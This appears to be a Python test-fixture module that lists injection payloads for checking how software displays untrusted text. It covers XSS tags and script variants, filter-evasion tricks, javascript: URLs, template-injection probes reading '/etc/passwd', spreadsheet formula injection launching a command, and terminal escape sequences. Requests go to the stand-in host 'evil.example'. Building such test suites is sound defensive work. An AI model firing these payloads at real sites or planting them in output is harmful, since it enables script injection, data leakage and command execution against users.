"""Markup, script, templates, formulas and control characters that would like to be more than text, for whatever shows text from pages.

Each that makes an element marks it with the attribute `data-pwned`, each that runs calls `pwned()`, each that asks asks `evil.example`.
"""

_RUN, _OUT = "pwned()", "//evil.example/x"

_TAGS = tuple(
    f"<{tag} data-pwned {event}={_RUN}>"
    for tag, event in (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("iframe", "onload"),
        ("input autofocus", "onfocus"),
        ("marquee", "onstart"),
        ("object data=x", "onerror"),
        ("embed src=x", "onload"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("a tabindex=1 autofocus", "onfocus"),
        ("style", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("picture><source><img src=x", "onerror"),
        ("b", "onmouseover"),
        ("div style=animation:x", "onanimationstart"),
        ("form", "onformdata"),
        ("button autofocus", "onfocus"),
        ("keygen autofocus", "onfocus"),
    )
)
_ASKING = tuple(
    f"<{tag}>"
    for tag in (
        f"img data-pwned src={_OUT}",
        f"link data-pwned rel=stylesheet href={_OUT}",
        f"script data-pwned src={_OUT}",
        f"iframe data-pwned src={_OUT}",
        f"meta data-pwned http-equiv=refresh content='0;url={_OUT}'",
        f"base data-pwned href={_OUT}",
        f"form data-pwned action={_OUT}",
        f"object data-pwned data={_OUT}",
        f"embed data-pwned src={_OUT}",
        f"video data-pwned poster={_OUT}",
        f"body data-pwned background={_OUT}",
        f"link data-pwned rel=prefetch href={_OUT}",
        f"svg data-pwned><image href={_OUT}",
        f"style data-pwned>@import '{_OUT}';</style",
        f"div data-pwned style='background:url({_OUT})'",
        f"input data-pwned type=image src={_OUT}",
        f"link data-pwned rel=preconnect href={_OUT}",
        f"audio data-pwned src={_OUT}",
        f"table data-pwned background={_OUT}",
        f"a data-pwned ping={_OUT} href={_OUT}",
    )
)
_SCRIPTS = (
    f"<script data-pwned>{_RUN}</script>",
    f"<ScRiPt data-pwned>{_RUN}</sCrIpT>",
    f"<script data-pwned type=module>{_RUN}</script>",
    f"<script/data-pwned>{_RUN}</script>",
    f"<scr<script>ipt data-pwned>{_RUN}</script>",
    f"<script data-pwned>{_RUN}//",
    f"<script\tdata-pwned>{_RUN}</script>",
    f"<svg data-pwned><script>{_RUN}</script></svg>",
    f"<math data-pwned><mtext><script>{_RUN}</script>",
    f"<iframe data-pwned srcdoc='<script>parent.{_RUN}</script>'>",
    f"<noscript><p title='</noscript><img data-pwned src=x onerror={_RUN}>'>",
    f"<template><script data-pwned>{_RUN}</script></template>",
)
#: What ends the element or the attribute it stands in.
_ESCAPING = tuple(
    f"{close}<img data-pwned src=x onerror={_RUN}>"
    for close in (
        '">',
        "'>",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        "</mark>",
        "</a>",
        '"/>',
        "</h1>",
        "</td></tr></table>",
        "</svg>",
        "</option></select>",
        "</body></html>",
        "%22%3E",
        "&quot;&gt;",
        '\\">',
        "`>",
        "\u0000>",
        "</xmp>",
        "</noscript>",
        "</desc></svg>",
    )
)
_ATTRIBUTES = (
    f'" data-pwned onmouseover="{_RUN}',
    f"' data-pwned onmouseover='{_RUN}",
    f'" autofocus data-pwned onfocus="{_RUN}" x="',
    f"x data-pwned onclick={_RUN}",
    f'" style="animation:x" data-pwned onanimationstart="{_RUN}',
    '" formaction="//evil.example" data-pwned="',
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://evil.example/%0a{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>parent.{_RUN}</script>",
    "//evil.example/x",
    "http://evil.example\\@a.example/",
    "https:evil.example",
    f'http://a.example/" data-pwned onclick="{_RUN}',
)
_TEMPLATES = (
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('pwned()')()}}",
    "{0.__class__}",
    "%(key)s",
    "[[7*7]]",
    "[bold]x[/bold]",
    "<!--#exec cmd=id-->",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img data-pwned src=x onerror=pwned()&#62;",
    "\\u003cscript>pwned()</script>",
    "＜script＞pwned()＜/script＞",
    "<mark data-pwned>x</mark>",
    "<!-- <img data-pwned src=x onerror=pwned()>",
    "<![CDATA[<img data-pwned>]]>",
)
#: What a spreadsheet takes for a formula.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example")',
    "=cmd|'/C calc'!A0",
)
#: What steers a terminal: colours, titles, clearing, clipboard, hyperlinks, 8-bit forms, going back, turning around.
CONTROLS = (
    "\x1b[31mred",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x1b]8;;http://evil.example\x1b\\link",
    "\x9b31mred",
    "\x9d0;t\x9c",
    "\x90$q\x9c",
    "over\rwritten",
    "back\x08\x08\x08",
    "bell\x07",
    "del\x7f",
    "null\x00",
    "\x0b\x0c",
    "\x85next",
    "\u2028line\u2029",
    "\u202eright to left\u202c",
    "\u2066isolate\u2069",
    "\u200fmark\u200e\u061c",
    "\x1bc",
    "\x1b(0",
    "\x0e\x0f",
)

MARKUP = (*_TAGS, *_ASKING, *_SCRIPTS, *_ESCAPING, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES)
PAYLOADS = (*MARKUP, *FORMULAS, *CONTROLS)
